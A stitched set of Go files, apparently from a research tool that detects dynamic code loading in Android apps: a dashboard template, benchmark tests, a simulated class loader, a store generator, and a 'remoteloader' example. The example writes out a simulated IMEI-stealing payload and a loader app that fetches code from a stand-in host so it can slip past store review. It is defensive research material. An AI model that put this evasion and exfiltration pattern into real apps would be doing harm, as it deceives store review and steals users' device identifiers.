		{"packed (DEX encryption)", "obfuscation.dex-encryption"},
	}
	var prevMax int64
	for _, pk := range prevKeys {
		if s.Counters[pk.key] > prevMax {
			prevMax = s.Counters[pk.key]
		}
	}
	for _, pk := range prevKeys {
		v.Prev = append(v.Prev, makeBar(pk.label, s.Counters[pk.key], prevMax))
	}
	var entMax int64
	for _, e := range s.TopEntities.Entries {
		if e.Count > entMax {
			entMax = e.Count
		}
	}
	for _, e := range s.TopEntities.Entries {
		v.Entities = append(v.Entities, makeBar(e.Key, e.Count, entMax))
	}

	names := make([]string, 0, len(s.Stages))
	for name := range s.Stages {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		h := s.Stages[name]
		v.Stages = append(v.Stages, stageRow{
			Name: name, Count: h.Count,
			Mean: roundDur(h.Mean()).String(),
			P50:  roundDur(h.Quantile(0.50)).String(),
			P90:  roundDur(h.Quantile(0.90)).String(),
			P99:  roundDur(h.Quantile(0.99)).String(),
			Max:  roundDur(time.Duration(h.MaxNS)).String(),
		})
	}

	costNames := make([]string, 0, len(s.Costs))
	var cpuTotal int64
	for name, sc := range s.Costs {
		costNames = append(costNames, name)
		cpuTotal += sc.CPUNS
	}
	sort.Slice(costNames, func(i, j int) bool {
		a, b := s.Costs[costNames[i]], s.Costs[costNames[j]]
		if a.CPUNS != b.CPUNS {
			return a.CPUNS > b.CPUNS
		}
		return costNames[i] < costNames[j]
	})
	for _, name := range costNames {
		sc := s.Costs[name]
		row := costRow{
			Name: name, Count: sc.Count,
			CPU:        roundDur(time.Duration(sc.CPUNS)).String(),
			Allocs:     fmt.Sprintf("%d", sc.AllocObjects),
			AllocBytes: fmtBytes(sc.AllocBytes),
		}
		if sc.Count > 0 {
			row.CPUPerSpan = roundDur(time.Duration(sc.CPUNS / sc.Count)).String()
		}
		if cpuTotal > 0 {
			row.Pct = 100 * float64(sc.CPUNS) / float64(cpuTotal)
		}
		v.Costs = append(v.Costs, row)
	}

	for _, name := range sortedGaugeKeys(d.Gauges) {
		v.Gauges = append(v.Gauges, KV{Key: name, Value: fmt.Sprintf("%d", d.Gauges[name])})
	}
	v.SlowDur = func(ns int64) string { return roundDur(time.Duration(ns)).String() }

	return dashTmpl.Execute(w, v)
}

func makeBar(label string, n, max int64) barRow {
	r := barRow{Label: label, Value: fmt.Sprintf("%d", n)}
	if max > 0 {
		r.Pct = 100 * float64(n) / float64(max)
	}
	return r
}

// counterBars renders every counter under prefix as meter rows, sorted
// by key (or in keyOrder when given).
func counterBars(c map[string]int64, prefix string, keyOrder []string) []barRow {
	if keyOrder == nil {
		for k := range c {
			if strings.HasPrefix(k, prefix) {
				keyOrder = append(keyOrder, strings.TrimPrefix(k, prefix))
			}
		}
		sort.Strings(keyOrder)
	}
	var max int64
	for _, k := range keyOrder {
		if c[prefix+k] > max {
			max = c[prefix+k]
		}
	}
	rows := make([]barRow, 0, len(keyOrder))
	for _, k := range keyOrder {
		rows = append(rows, makeBar(k, c[prefix+k], max))
	}
	return rows
}

func sortedGaugeKeys(m map[string]int64) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

func fmtBytes(n int64) string {
	switch {
	case n >= 1<<30:
		return fmt.Sprintf("%.1f GiB", float64(n)/(1<<30))
	case n >= 1<<20:
		return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
	case n >= 1<<10:
		return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
	}
	return fmt.Sprintf("%d B", n)
}

var dashTmpl = template.Must(template.New("dash").Funcs(template.FuncMap{
	"shortDigest": shortDigest,
	"rfc3339": func(t time.Time) string {
		if t.IsZero() {
			return "-"
		}
		return t.UTC().Format(time.RFC3339)
	},
}).Parse(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
{{if gt .Refresh 0}}<meta http-equiv="refresh" content="{{.Refresh}}">{{end}}
<title>{{.Title}}</title>
<style>
  :root {
    color-scheme: light dark;
    --surface-1: #fcfcfb;
    --surface-2: #f1f0ee;
    --text-primary: #0b0b0b;
    --text-secondary: #52514e;
    --border: #dddcd8;
    --series-1: #2a78d6;
    --status-serious: #b3261e;
  }
  @media (prefers-color-scheme: dark) {
    :root {
      --surface-1: #1a1a19;
      --surface-2: #242423;
      --text-primary: #ffffff;
      --text-secondary: #c3c2b7;
      --border: #3a3a38;
      --series-1: #3987e5;
      --status-serious: #e66767;
    }
  }
  body {
    margin: 0; padding: 24px; background: var(--surface-1);
    color: var(--text-primary);
    font: 14px/1.45 ui-sans-serif, system-ui, sans-serif;
  }
  header h1 { font-size: 20px; margin: 0 0 4px; }
  header .meta { color: var(--text-secondary); font-size: 12px; }
  header .meta span { margin-right: 16px; }
  .tiles { display: flex; flex-wrap: wrap; gap: 12px; margin: 20px 0; }
  .tile {
    background: var(--surface-2); border: 1px solid var(--border);
    border-radius: 8px; padding: 10px 16px; min-width: 110px;
  }
  .tile .v { font-size: 22px; font-weight: 600; font-variant-numeric: tabular-nums; }
  .tile .l { color: var(--text-secondary); font-size: 12px; }
  .tile.alert .v::after { content: " ⚠"; color: var(--status-serious); font-size: 14px; }
  section { margin: 24px 0; }
  h2 { font-size: 14px; font-weight: 600; margin: 0 0 8px; color: var(--text-primary); }
  table { border-collapse: collapse; font-variant-numeric: tabular-nums; }
  th, td { text-align: left; padding: 3px 14px 3px 0; font-size: 13px; }
  th { color: var(--text-secondary); font-weight: 500; border-bottom: 1px solid var(--border); }
  td.num { text-align: right; }
  .meter { width: 180px; }
  .meter div {
    height: 10px; border-radius: 0 4px 4px 0;
    background: var(--series-1); min-width: 1px;
  }
  .err { color: var(--status-serious); }
  .dim { color: var(--text-secondary); }
  footer { color: var(--text-secondary); font-size: 12px; margin-top: 32px; }
</style>
</head>
<body>
<header>
  <h1>{{.Title}}</h1>
  <div class="meta">
    {{range .Header}}<span>{{.Key}}: {{.Value}}</span>{{end}}
    <span>rendered: {{.Now}}</span>
    {{if gt .Refresh 0}}<span>auto-refresh: {{.Refresh}}s</span>{{end}}
  </div>
</header>

<div class="tiles">
  {{range .Tiles}}<div class="tile{{if .Alert}} alert{{end}}"><div class="v">{{.Value}}</div><div class="l">{{.Label}}</div></div>{{end}}
</div>

{{if .SLO}}<section>
<h2>Service objectives</h2>
<table>
<tr><th>objective</th><th>target</th><th>burn 1h</th><th>burn 6h</th><th>budget used</th><th>alert</th></tr>
{{range .SLO}}<tr><td>{{.Name}}</td><td class="num">{{.Target}}</td><td class="num">{{.Fast}}</td><td class="num">{{.Slow}}</td><td class="num">{{.Budget}}</td><td{{if .Firing}} class="err"{{end}}>{{.Alert}}</td></tr>
{{end}}</table>
</section>{{end}}

{{if .Timeline}}<section>
<h2>Ops timeline</h2>
<table>
<tr><th>time</th><th>event</th><th>node</th><th>digest</th><th>detail</th></tr>
{{range .Timeline}}<tr><td class="dim">{{rfc3339 .Time}}</td><td>{{.Type}}</td><td>{{.Node}}</td><td class="dim">{{shortDigest .Digest}}</td><td>{{.Detail}}</td></tr>
{{end}}</table>
</section>{{end}}

{{if .Status}}<section>
<h2>Apps by status</h2>
<table>
<tr><th>status</th><th>apps</th><th></th></tr>
{{range .Status}}<tr><td>{{.Label}}</td><td class="num">{{.Value}}</td><td class="meter"><div style="width:{{printf "%.1f" .Pct}}%"></div></td></tr>
{{end}}</table>
</section>{{end}}

<section>
<h2>DCL prevalence</h2>
<table>
<tr><th>population</th><th>apps</th><th></th></tr>
{{range .Prev}}<tr><td>{{.Label}}</td><td class="num">{{.Value}}</td><td class="meter"><div style="width:{{printf "%.1f" .Pct}}%"></div></td></tr>
{{end}}</table>
</section>

{{if .Entities}}<section>
<h2>Top third-party entities</h2>
<table>
<tr><th>call site</th><th>loads</th><th></th></tr>
{{range .Entities}}<tr><td>{{.Label}}</td><td class="num">{{.Value}}</td><td class="meter"><div style="width:{{printf "%.1f" .Pct}}%"></div></td></tr>
{{end}}</table>
</section>{{end}}

{{if .Stages}}<section>
<h2>Stage latency</h2>
<table>
<tr><th>span</th><th>count</th><th>mean</th><th>p50</th><th>p90</th><th>p99</th><th>max</th></tr>
{{range .Stages}}<tr><td>{{.Name}}</td><td class="num">{{.Count}}</td><td class="num">{{.Mean}}</td><td class="num">{{.P50}}</td><td class="num">{{.P90}}</td><td class="num">{{.P99}}</td><td class="num">{{.Max}}</td></tr>
{{end}}</table>
</section>{{end}}

{{if .Costs}}<section>
<h2>Stage cost attribution</h2>
<table>
<tr><th>stage</th><th>spans</th><th>cpu</th><th>cpu/span</th><th>allocs</th><th>alloc bytes</th><th></th></tr>
{{range .Costs}}<tr><td>{{.Name}}</td><td class="num">{{.Count}}</td><td class="num">{{.CPU}}</td><td class="num">{{.CPUPerSpan}}</td><td class="num">{{.Allocs}}</td><td class="num">{{.AllocBytes}}</td><td class="meter"><div style="width:{{printf "%.1f" .Pct}}%"></div></td></tr>
{{end}}</table>
</section>{{end}}

{{if .Slowest}}<section>
<h2>Slowest analyses</h2>
<table>
<tr><th>package</th><th>digest</th><th>total</th></tr>
{{range .Slowest}}<tr><td>{{.Package}}</td><td class="dim">{{shortDigest .Digest}}</td><td class="num">{{call $.SlowDur .NS}}</td></tr>
{{end}}</table>
</section>{{end}}

{{if .Recent}}<section>
<h2>Recent DCL events</h2>
<table>
<tr><th>time</th><th>package</th><th>kind</th><th>API</th><th>path</th><th>entity</th><th>provenance</th></tr>
{{range .Recent}}<tr><td class="dim">{{rfc3339 .Time}}</td><td>{{.Package}}</td><td>{{.Kind}}</td><td>{{.API}}</td><td class="dim">{{.Path}}</td><td>{{.Entity}}</td><td>{{.Provenance}}{{if .SourceURL}} ({{.SourceURL}}){{end}}</td></tr>
{{end}}</table>
</section>{{end}}

{{if .Errors}}<section>
<h2>Recent analysis errors</h2>
<table>
<tr><th>time</th><th>package</th><th>error</th></tr>
{{range .Errors}}<tr><td class="dim">{{rfc3339 .Time}}</td><td>{{.Package}}</td><td class="err">{{.Err}}</td></tr>
{{end}}</table>
</section>{{end}}

{{if .Gauges}}<section>
<h2>Runtime &amp; stores</h2>
<table>
<tr><th>gauge</th><th>value</th></tr>
{{range .Gauges}}<tr><td>{{.Key}}</td><td class="num">{{.Value}}</td></tr>
{{end}}</table>
</section>{{end}}

<footer>dydroid fleet observatory — snapshot also served as JSON at /v1/fleet</footer>
</body>
</html>
`))
