// Remoteloader reproduces the paper's §III-B penetration experiment:
//
//  1. App_M, which packages known malware directly, is submitted to the
//     store and rejected by the Bouncer's static scan.
//  2. App_L, which merely downloads and dynamically loads whatever the
//     developer's server returns, passes review — the server withholds
//     the payload during the review window.
//  3. After release the server flips delivery on; end-user devices now
//     fetch and execute the malware, invisible to the store.
//  4. DyDroid, running its instrumented device post-release, intercepts
//     the loaded code, classifies it, and attributes the remote
//     provenance — the Google Play content-policy violation.
package main

import (
	"fmt"
	"log"

	"github.com/dydroid/dydroid"
	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/mail"
)

const payloadURL = "http://update.apphost.example/module.dex"

// buildMalware authors the malicious bytecode: read the IMEI, ship it to
// a command server.
func buildMalware() []byte {
	b := dex.NewBuilder()
	m := b.Class("com.scm.Stealer", "java.lang.Object").Method("run", dex.ACCPublic, 5, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(2).
		NewInstance(3, "java.net.HttpURLConnection").
		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection",
			Name: "write", Sig: "(Ljava/lang/String;)V"}, 3, 2).
		ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		log.Fatal(err)
	}
	return data
}

// buildAppM packages the malware statically.
func buildAppM(payload []byte) []byte {
	a := &dydroid.APK{
		Manifest: dydroid.Manifest{Package: "com.appm", MinSDK: 16},
		Dex:      payload,
	}
	a.Manifest.Application.Activities = []dydroid.Component{{Name: "com.appm.Main", Main: true}}
	data, err := dydroid.BuildAPK(a)
	if err != nil {
		log.Fatal(err)
	}
	return data
}

// buildAppL downloads and loads whatever the server returns.
func buildAppL() []byte {
	pkg := "com.appl"
	dest := android.InternalDir(pkg) + "cache/module.dex"
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 10, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "java.net.URL").
		ConstString(2, payloadURL).
		InvokeDirect(dex.MethodRef{Class: "java.net.URL", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		InvokeVirtual(dex.MethodRef{Class: "java.net.URL", Name: "openConnection",
			Sig: "()Ljava/net/URLConnection;"}, 1).
		MoveResult(3).
		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection",
			Name: "getInputStream", Sig: "()Ljava/io/InputStream;"}, 3).
		MoveResult(4).
		IfEqz(4, "nothing"). // server said no (or offline): behave normally
		NewInstance(5, "java.io.FileOutputStream").
		ConstString(6, dest).
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 5, 6).
		InvokeVirtual(dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
			Sig: "()[B"}, 4).
		MoveResult(7).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 5, 7).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 5).
		ConstString(8, android.InternalDir(pkg)+"cache/odex").
		NewInstance(9, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			9, 6, 8, 0, 0).
		Label("nothing").
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		log.Fatal(err)
	}
	a := &dydroid.APK{
		Manifest: dydroid.Manifest{Package: pkg, MinSDK: 16},
		Dex:      dexBytes,
	}
	a.Manifest.Application.Activities = []dydroid.Component{{Name: pkg + ".Main", Main: true}}
	data, err := dydroid.BuildAPK(a)
	if err != nil {
		log.Fatal(err)
	}
	return data
}

func main() {
	payload := buildMalware()

	// Train the store's detector on the malware family.
	var clf dydroid.Classifier
	df, err := dex.Decode(payload)
	if err != nil {
		log.Fatal(err)
	}
	if err := clf.Train("Swiss code monkeys", mail.FromDex(df)); err != nil {
		log.Fatal(err)
	}

	net := dydroid.NewNetwork()
	reviewer := &dydroid.Reviewer{Classifier: &clf, Network: net}

	fmt.Println("== submission review ==")
	v, err := reviewer.Review(buildAppM(payload))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("App_M (malware packaged statically): approved=%v  %s\n", v.Approved, v.Reason)

	appL := buildAppL()
	v, err = reviewer.Review(appL)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("App_L (loads remote code; server silent): approved=%v  %s\n", v.Approved, v.Reason)

	fmt.Println("\n== after public release: the server flips delivery on ==")
	net.Serve(payloadURL, dydroid.Payload{Data: payload})

	an := dydroid.NewAnalyzer(dydroid.Options{Seed: 1, Classifier: &clf, Network: net})
	res, err := an.AnalyzeAPK(appL)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("DyDroid post-release analysis of App_L:")
	for _, ev := range res.Events {
		fmt.Printf("  DCL %s: %s\n", ev.Kind, ev.Path)
		fmt.Printf("    provenance: %s (from %s) — Google Play content-policy violation\n",
			ev.Provenance, ev.SourceURL)
	}
	for _, hit := range res.Malware {
		fmt.Printf("  loaded code classified: %s (match %.0f%%)\n", hit.Family, hit.Score*100)
	}
}
