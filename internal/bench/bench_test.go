package bench

import (
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func sampleResult() *Result {
	return &Result{
		Schema:            SchemaVersion,
		Name:              "sample",
		Seed:              2016,
		Scale:             0.02,
		Workers:           4,
		Cores:             8,
		Apps:              1183,
		Statuses:          map[string]int{"exercised": 909, "no-dcl": 254},
		ElapsedNS:         689411240,
		AppsPerSec:        1715.95,
		AppsPerSecPerCore: 214.49,
		AllocsPerApp:      1602,
		AllocBytesPerApp:  264448,
		Stages: []StageResult{
			{Name: "dynamic", Count: 916, P50NS: 216000, P95NS: 1022000, P99NS: 1342000},
			{Name: "unpack", Count: 1183, P50NS: 58000, P95NS: 220000, P99NS: 292000},
		},
	}
}

func TestResultJSONRoundTrip(t *testing.T) {
	want := sampleResult()
	path := filepath.Join(t.TempDir(), "BENCH_test.json")
	if err := want.WriteFile(path); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("round-trip mismatch:\n got %+v\nwant %+v", got, want)
	}
}

func TestReadFileRejectsNewerSchema(t *testing.T) {
	r := sampleResult()
	r.Schema = SchemaVersion + 1
	path := filepath.Join(t.TempDir(), "BENCH_future.json")
	if err := r.WriteFile(path); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if _, err := ReadFile(path); err == nil {
		t.Error("ReadFile accepted a result with a newer schema version")
	}
}

func TestDiffFlagsRegressions(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	// Throughput down 50%, dynamic p95 up 2x, allocs up 2x: all regressions.
	head.AppsPerSec = base.AppsPerSec / 2
	head.AllocsPerApp = base.AllocsPerApp * 2
	head.Stages[0].P95NS = base.Stages[0].P95NS * 2

	regs := Diff(base, head, 15)
	got := make(map[string]bool, len(regs))
	for _, g := range regs {
		got[g.Metric] = true
	}
	for _, want := range []string{"apps_per_sec", "allocs_per_app", "stage.dynamic.p95"} {
		if !got[want] {
			t.Errorf("Diff missed regression %q (got %v)", want, regs)
		}
	}
	// Unchanged metrics must not be flagged.
	for _, never := range []string{"stage.unpack.p95", "stage.dynamic.p50", "alloc_bytes_per_app"} {
		if got[never] {
			t.Errorf("Diff flagged unchanged metric %q", never)
		}
	}
}

func TestDiffDirectionAware(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	// Improvements in both directions: throughput up, latency and allocs
	// down. None may be flagged.
	head.AppsPerSec = base.AppsPerSec * 2
	head.AllocsPerApp = base.AllocsPerApp / 2
	head.Stages[0].P95NS = base.Stages[0].P95NS / 2
	if regs := Diff(base, head, 15); len(regs) != 0 {
		t.Errorf("Diff flagged improvements as regressions: %v", regs)
	}
}

func TestDiffRespectsThreshold(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	head.AppsPerSec = base.AppsPerSec * 0.90 // -10%
	if regs := Diff(base, head, 15); len(regs) != 0 {
		t.Errorf("-10%% flagged under a 15%% threshold: %v", regs)
	}
	if regs := Diff(base, head, 5); len(regs) != 1 {
		t.Errorf("-10%% not flagged under a 5%% threshold: %v", regs)
	}
}

func TestDiffSkipsUnmatchedStages(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	head.Stages = append(head.Stages, StageResult{Name: "brand-new", Count: 1, P95NS: 1 << 40})
	if regs := Diff(base, head, 15); len(regs) != 0 {
		t.Errorf("Diff flagged a stage absent from the baseline: %v", regs)
	}
}

// TestRunDeterministicFingerprint runs the harness twice at smoke scale:
// everything except wall-clock timing must be identical for a fixed seed.
func TestRunDeterministicFingerprint(t *testing.T) {
	cfg := Config{Name: "determinism", Seed: 2016, Scale: 0.002, Workers: 4}
	a, err := Run(cfg)
	if err != nil {
		t.Fatalf("first run: %v", err)
	}
	b, err := Run(cfg)
	if err != nil {
		t.Fatalf("second run: %v", err)
	}
	if !reflect.DeepEqual(a.Fingerprint(), b.Fingerprint()) {
		t.Errorf("fingerprints differ for identical config:\n first %+v\nsecond %+v",
			a.Fingerprint(), b.Fingerprint())
	}
	if a.Apps == 0 || len(a.Stages) == 0 {
		t.Errorf("smoke run produced an empty result: %+v", a)
	}
}

// TestFoldGate: the blocking gate fires only on fold-scale collapses of
// headline metrics, in the right direction for each.
func TestFoldGate(t *testing.T) {
	base := sampleResult()

	// A 40% throughput drop and a 60% allocation rise are bad, but under
	// 2x: warn-only territory.
	drift := sampleResult()
	drift.AppsPerSec = base.AppsPerSec * 0.6
	drift.AppsPerSecPerCore = base.AppsPerSecPerCore * 0.6
	drift.AllocsPerApp = base.AllocsPerApp * 16 / 10
	if regs := FoldGate(base, drift, 2); len(regs) != 0 {
		t.Errorf("FoldGate fired on sub-2x drift: %v", regs)
	}

	// Halved throughput and doubled allocations both cross the 2x gate.
	collapse := sampleResult()
	collapse.AppsPerSec = base.AppsPerSec / 2
	collapse.AllocsPerApp = base.AllocsPerApp * 2
	regs := FoldGate(base, collapse, 2)
	names := map[string]bool{}
	for _, g := range regs {
		names[g.Metric] = true
	}
	if !names["apps_per_sec"] || !names["allocs_per_app"] {
		t.Errorf("FoldGate missed a 2x collapse: %v", regs)
	}
	if names["alloc_bytes_per_app"] || names["apps_per_sec_per_core"] {
		t.Errorf("FoldGate flagged unmoved metrics: %v", regs)
	}

	// Improvements never fire the gate, however large.
	better := sampleResult()
	better.AppsPerSec = base.AppsPerSec * 10
	better.AllocsPerApp = base.AllocsPerApp / 10
	if regs := FoldGate(base, better, 2); len(regs) != 0 {
		t.Errorf("FoldGate flagged improvements: %v", regs)
	}
}

// TestNextTrajectory: auto-numbering picks max+1 and reports the latest
// existing point.
func TestNextTrajectory(t *testing.T) {
	dir := t.TempDir()
	next, prev, err := NextTrajectory(dir)
	if err != nil {
		t.Fatalf("NextTrajectory: %v", err)
	}
	if want := filepath.Join(dir, "BENCH_0.json"); next != want || prev != "" {
		t.Fatalf("empty dir: next=%q prev=%q, want next=%q prev empty", next, prev, want)
	}
	for _, n := range []string{"BENCH_3.json", "BENCH_10.json", "BENCH_2.json", "bench-smoke.json", "BENCH_x.json"} {
		if err := sampleResult().WriteFile(filepath.Join(dir, n)); err != nil {
			t.Fatal(err)
		}
	}
	next, prev, err = NextTrajectory(dir)
	if err != nil {
		t.Fatalf("NextTrajectory: %v", err)
	}
	if want := filepath.Join(dir, "BENCH_11.json"); next != want {
		t.Errorf("next = %q, want %q", next, want)
	}
	if want := filepath.Join(dir, "BENCH_10.json"); prev != want {
		t.Errorf("prev = %q, want %q", prev, want)
	}
}

// TestCompare renders every headline metric with a signed delta.
func TestCompare(t *testing.T) {
	base := sampleResult()
	head := sampleResult()
	head.AppsPerSec = base.AppsPerSec * 2
	out := Compare(base, head)
	for _, want := range []string{"apps_per_sec", "allocs_per_app", "+100.0%"} {
		if !strings.Contains(out, want) {
			t.Errorf("Compare output missing %q:\n%s", want, out)
		}
	}
}
