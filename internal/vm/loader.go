package vm

import (
	"fmt"
	"strings"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
)

// ClassLoader models dalvik.system.DexClassLoader / PathClassLoader. A
// loader owns the classes decoded from the files on its dexPath.
type ClassLoader struct {
	Kind         LoaderKind
	DexPath      string // ':'-separated list of loaded files
	OptimizedDir string
	Parent       *ClassLoader
	classes      map[string]*dex.Class
}

// FindClass resolves a class by Java binary name, delegating to the
// parent loader first (Android's parent-delegation model).
func (cl *ClassLoader) FindClass(name string) *dex.Class {
	if cl == nil {
		return nil
	}
	if c := cl.Parent.FindClass(name); c != nil {
		return c
	}
	return cl.classes[name]
}

// Classes returns the classes this loader defined (excluding parents).
func (cl *ClassLoader) Classes() map[string]*dex.Class {
	return cl.classes
}

// newClassLoader decodes every file on dexPath from device storage,
// writes the optimized ODEX into optimizedDir (when given), and registers
// the classes. It mirrors the constructor behaviour the paper hooks: the
// hook has already fired before this runs.
func (m *VM) newClassLoader(kind LoaderKind, dexPath, optimizedDir string, parent *ClassLoader) (*ClassLoader, error) {
	cl := &ClassLoader{
		Kind:         kind,
		DexPath:      dexPath,
		OptimizedDir: optimizedDir,
		Parent:       parent,
		classes:      make(map[string]*dex.Class),
	}
	for _, path := range strings.Split(dexPath, ":") {
		if path == "" {
			continue
		}
		data, err := m.Device.Storage.ReadFile(path)
		if err != nil {
			return nil, fmt.Errorf("vm: class loader: %w", err)
		}
		df, err := decodeLoadable(data)
		if err != nil {
			return nil, fmt.Errorf("vm: class loader: %s: %w", path, err)
		}
		if optimizedDir != "" && !dex.IsOptimized(data) {
			odex, err := dex.Optimize(df)
			if err != nil {
				return nil, fmt.Errorf("vm: dexopt %s: %w", path, err)
			}
			optPath := optimizedDir + "/" + baseName(path) + ".odex"
			// dexopt runs as the system installd daemon.
			if err := m.Device.Storage.WriteFile(optPath, odex, "system", false); err != nil {
				return nil, fmt.Errorf("vm: dexopt write %s: %w", optPath, err)
			}
		}
		for _, c := range df.Classes {
			cl.classes[c.Name] = c
		}
	}
	m.loaders = append(m.loaders, cl)
	return cl, nil
}

// decodeLoadable accepts the file formats DexClassLoader supports (paper
// §II): raw DEX/ODEX bytes, or APK/JAR/ZIP containers whose classes.dex
// entry is loaded.
func decodeLoadable(data []byte) (*dex.File, error) {
	if len(data) >= 2 && data[0] == 'P' && data[1] == 'K' {
		a, err := apk.Parse(data)
		if err != nil {
			return nil, fmt.Errorf("container: %w", err)
		}
		if a.Dex == nil {
			return nil, fmt.Errorf("container has no classes.dex entry")
		}
		return dex.Decode(a.Dex)
	}
	return dex.Decode(data)
}

func baseName(path string) string {
	if i := strings.LastIndexByte(path, '/'); i >= 0 {
		return path[i+1:]
	}
	return path
}
