// Command genstore materializes a synthetic marketplace to disk: one APK
// archive per app, a metadata CSV, and the remote payloads the simulated
// Baidu ad server would deliver.
//
// Usage:
//
//	genstore -out ./store [-scale 0.01] [-seed 2016]
package main

import (
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"github.com/dydroid/dydroid/internal/corpus"
)

func main() {
	out := flag.String("out", "store", "output directory")
	scale := flag.Float64("scale", 0.01, "marketplace scale (1.0 = 58,739 apps)")
	seed := flag.Int64("seed", 2016, "generation seed")
	flag.Parse()

	if err := run(*out, *scale, *seed); err != nil {
		fmt.Fprintln(os.Stderr, "genstore:", err)
		os.Exit(1)
	}
}

func run(out string, scale float64, seed int64) error {
	st, err := corpus.Generate(corpus.Config{Seed: seed, Scale: scale})
	if err != nil {
		return err
	}
	apkDir := filepath.Join(out, "apks")
	if err := os.MkdirAll(apkDir, 0o755); err != nil {
		return err
	}
	metaFile, err := os.Create(filepath.Join(out, "metadata.csv"))
	if err != nil {
		return err
	}
	defer metaFile.Close()
	w := csv.NewWriter(metaFile)
	if err := w.Write([]string{"package", "category", "downloads", "num_ratings",
		"avg_rating", "release_date", "archetype"}); err != nil {
		return err
	}
	for i, app := range st.Apps {
		data, err := st.BuildAPK(app)
		if err != nil {
			return fmt.Errorf("%s: %w", app.Spec.Pkg, err)
		}
		name := filepath.Join(apkDir, app.Spec.Pkg+".apk")
		if err := os.WriteFile(name, data, 0o644); err != nil {
			return err
		}
		if err := w.Write([]string{
			app.Meta.Package, app.Meta.Category,
			strconv.FormatInt(app.Meta.Downloads, 10),
			strconv.Itoa(app.Meta.NumRatings),
			strconv.FormatFloat(app.Meta.AvgRating, 'f', 2, 64),
			app.Meta.ReleaseDate.Format("2006-01-02"),
			app.Spec.Archetype,
		}); err != nil {
			return err
		}
		if (i+1)%500 == 0 {
			fmt.Fprintf(os.Stderr, "\rwrote %d/%d apps", i+1, len(st.Apps))
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "\rwrote %d apps to %s\n", len(st.Apps), apkDir)
	return nil
}
