package main

import (
	"flag"
	"fmt"
	"io"

	"github.com/dydroid/dydroid/internal/telemetry"
)

// runFleet handles the fleet subcommand. `fleet merge` combines per-shard
// snapshots (experiments fleet.json files or saved /v1/fleet responses)
// into one aggregate and renders the paper-style measurement report; -o
// additionally writes the merged snapshot for further merging.
func runFleet(w io.Writer, args []string) error {
	if len(args) == 0 || args[0] != "merge" {
		return fmt.Errorf("usage: apkinspect fleet merge [-o merged.json] <fleet.json>...")
	}
	fs := flag.NewFlagSet("fleet merge", flag.ContinueOnError)
	out := fs.String("o", "", "also write the merged snapshot to this file")
	measureOnly := fs.Bool("measure-only", false, "render only the deterministic measurement tables (no latency section)")
	if err := fs.Parse(args[1:]); err != nil {
		return err
	}
	if fs.NArg() == 0 {
		return fmt.Errorf("usage: apkinspect fleet merge [-o merged.json] <fleet.json>...")
	}
	merged := telemetry.NewSnapshot(0, 0, 0)
	merged.Shards = 0
	for _, path := range fs.Args() {
		snap, err := telemetry.ReadSnapshot(path)
		if err != nil {
			return err
		}
		if err := telemetry.Merge(merged, snap); err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
	}
	if *out != "" {
		if err := merged.WriteFile(*out); err != nil {
			return err
		}
	}
	if *measureOnly {
		fmt.Fprint(w, merged.MeasurementReport())
	} else {
		fmt.Fprint(w, merged.Report())
	}
	return nil
}
