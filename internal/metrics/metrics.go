// Package metrics provides the lightweight instrumentation layer of the
// measurement harness: named counters and duration histograms with cheap
// concurrent updates and point-in-time snapshots. The pipeline records
// per-stage timings (unpack/rewrite/dynamic/static/replay) and status
// counts into a Registry; the experiment runner aggregates one Registry
// per run into its RunStats block. No external dependencies.
package metrics

import (
	"fmt"
	"math/bits"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"text/tabwriter"
	"time"
)

// numBuckets is the histogram resolution: bucket i covers durations in
// (1µs·2^(i-1), 1µs·2^i], so the top bucket reaches past half an hour.
const numBuckets = 32

// NumBuckets is the shared histogram resolution, exported so other
